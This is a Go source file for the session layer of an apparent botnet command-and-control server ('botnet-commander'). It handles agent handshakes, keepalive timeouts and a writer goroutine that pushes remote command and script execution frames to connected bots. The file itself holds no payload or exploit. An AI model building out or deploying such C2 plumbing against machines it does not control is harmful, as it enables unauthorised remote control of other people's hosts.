// Package session is the server side of the Agent Session: one
// goroutine pair per connected Agent, a reader loop that decodes frames and
// dispatches them to a Handler, and a writer serialization point so that
// multiple goroutines (the reader itself, replying to BotHostInfo/BotHello;
// the dispatch scheduler, pushing ExeCommand/ExeScript) can safely hand
// outbound frames to the same connection.
//
// The writer serialization point is a buffered channel drained by a single
// goroutine that owns all writes to the connection, so the reader loop and
// the dispatch scheduler can both hand outbound frames to the same
// connection without racing each other.
package session

import (
	"errors"
	"fmt"
	"time"

	"go.uber.org/zap"

	"github.com/rpcyber/botnet-commander/internal/protocol"
)

// State names a position in the per-session state machine described by
// AwaitHello -> Identified -> Closed.
type State int

const (
	StateAwaitHello State = iota
	StateIdentified
	StateClosed
)

func (s State) String() string {
	switch s {
	case StateAwaitHello:
		return "AwaitHello"
	case StateIdentified:
		return "Identified"
	case StateClosed:
		return "Closed"
	default:
		return "Unknown"
	}
}

const (
	// helloTimeout bounds how long a freshly accepted connection has to send
	// its first botHostInfo frame before the session gives up on it.
	helloTimeout = 30 * time.Second

	// idleReadTimeout bounds how long an Identified session may go without
	// sending any frame (command reply or botHello keepalive) before the
	// reader loop treats the peer as gone.
	idleReadTimeout = 90 * time.Second

	// writeDeadline bounds a single outbound frame write.
	writeDeadline = 10 * time.Second

	// sendBufferSize is the capacity of the per-session outbound channel.
	// Once it is full, Send rejects further frames with an error; the
	// session itself stays open.
	sendBufferSize = 32
)

// ErrSendOnClosed is returned by Send after the session has shut down.
var ErrSendOnClosed = errors.New("session: send on closed session")

// Handler receives decoded frames from a session's reader loop. Identify is
// called exactly once, on the first botHostInfo frame, and returns any error
// that should abort the handshake; the session then takes the frame's own
// uuid as its agent id. OnFrame is called for every subsequent frame and returns
// false to request the session be closed — an Identified session that
// receives a frame kind it has no handling for must close rather than stay
// open indefinitely.
type Handler interface {
	Identify(s *Session, info protocol.BotHostInfo) error
	OnFrame(s *Session, msg protocol.Message) bool
}

// Session wraps one accepted Agent connection.
type Session struct {
	framer  *protocol.Framer
	handler Handler
	logger  *zap.Logger

	remoteAddr string
	agentID    string
	hostname   string
	os         string
	state      State

	send chan protocol.Message
	done chan struct{}

	idleTimeout time.Duration
}

// New creates a Session around an already-accepted connection framer. Call
// Run to start the reader/writer pumps; Run blocks until the session ends.
func New(framer *protocol.Framer, remoteAddr string, handler Handler, logger *zap.Logger) *Session {
	return &Session{
		framer:     framer,
		handler:    handler,
		logger:     logger.Named("session").With(zap.String("remote_addr", remoteAddr)),
		remoteAddr: remoteAddr,
		state:      StateAwaitHello,
		send:       make(chan protocol.Message, sendBufferSize),
		done:       make(chan struct{}),
		idleTimeout: idleReadTimeout,
	}
}

// SetIdleTimeout overrides the default idle-read timeout applied once the
// session has completed its handshake (spec's OFFLINE_TOUT). Must be called
// before Run.
func (s *Session) SetIdleTimeout(d time.Duration) {
	if d > 0 {
		s.idleTimeout = d
	}
}

// RemoteAddr returns the peer's network address, for logging and the
// registry.Writer interface.
func (s *Session) RemoteAddr() string { return s.remoteAddr }

// AgentID returns the identifier resolved during the handshake. Empty until
// Identify succeeds.
func (s *Session) AgentID() string { return s.agentID }

// Send enqueues msg for delivery by the writer pump. It never blocks: if the
// send buffer is full it returns an error without queueing msg, and after
// the session has shut down it returns ErrSendOnClosed.
func (s *Session) Send(msg protocol.Message) error {
	select {
	case <-s.done:
		return ErrSendOnClosed
	default:
	}

	select {
	case s.send <- msg:
		return nil
	case <-s.done:
		return ErrSendOnClosed
	default:
		return fmt.Errorf("session: send buffer full for agent %s", s.agentID)
	}
}

// Run starts the writer pump in a goroutine and runs the reader loop on the
// current goroutine until the connection closes or a protocol error occurs.
// It always returns after the connection is fully torn down.
func (s *Session) Run() {
	writerDone := make(chan struct{})
	go func() {
		defer close(writerDone)
		s.writePump()
	}()

	s.readLoop()

	close(s.done)
	_ = s.framer.Close()
	<-writerDone
}

func (s *Session) writePump() {
	for {
		select {
		case msg, ok := <-s.send:
			if !ok {
				return
			}
			if err := s.framer.WriteFrame(msg, writeDeadline); err != nil {
				s.logger.Warn("session: write failed", zap.Error(err))
				return
			}
		case <-s.done:
			// Drain anything already queued so a reply racing the close
			// still has a chance to land, then exit.
			for {
				select {
				case msg := <-s.send:
					_ = s.framer.WriteFrame(msg, writeDeadline)
				default:
					return
				}
			}
		}
	}
}

func (s *Session) readLoop() {
	for {
		timeout := helloTimeout
		if s.state == StateIdentified {
			timeout = s.idleTimeout
		}

		frames, err := s.framer.ReadFrames(timeout)
		if err != nil {
			if errors.Is(err, protocol.ErrTimeout) {
				s.logger.Info("session: read timeout, closing", zap.String("state", s.state.String()))
			} else if errors.Is(err, protocol.ErrEOF) {
				s.logger.Info("session: peer closed connection")
			} else {
				s.logger.Warn("session: protocol error, closing", zap.Error(err))
			}
			s.state = StateClosed
			return
		}

		for _, msg := range frames {
			if s.state == StateAwaitHello {
				if msg.Kind != protocol.KindBotHostInfo {
					s.logger.Warn("session: expected botHostInfo first, got", zap.String("kind", string(msg.Kind)))
					s.state = StateClosed
					return
				}
				if err := s.handler.Identify(s, *msg.BotHostInfo); err != nil {
					s.logger.Warn("session: identify failed", zap.Error(err))
					s.state = StateClosed
					return
				}
				s.agentID = msg.BotHostInfo.UUID
				s.hostname = msg.BotHostInfo.Hostname
				s.os = msg.BotHostInfo.OS
				s.state = StateIdentified
				s.logger = s.logger.With(zap.String("agent_id", s.agentID), zap.String("hostname", s.hostname))
				continue
			}
			if !s.handler.OnFrame(s, msg) {
				s.logger.Warn("session: handler requested close", zap.String("kind", string(msg.Kind)))
				s.state = StateClosed
				return
			}
		}
	}
}
